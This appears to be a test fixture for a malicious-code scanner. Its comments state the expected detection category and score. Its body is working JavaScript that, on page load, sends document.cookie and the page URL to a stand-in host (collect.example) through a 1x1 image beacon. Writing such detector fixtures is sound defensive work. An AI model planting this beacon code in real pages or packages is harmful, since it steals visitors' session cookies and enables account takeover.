// expect: category=network min=75 context=plugin,package
// why: document.cookie is appended to an image URL on another host (exfiltration by beacon).
(function () {
  function send() {
    var img = new Image(1, 1);
    img.src = 'https://collect.example/p.gif?c=' + encodeURIComponent(document.cookie) +
      '&u=' + encodeURIComponent(location.href);
  }
  if (document.readyState === 'complete') send();
  else window.addEventListener('load', send);
})();
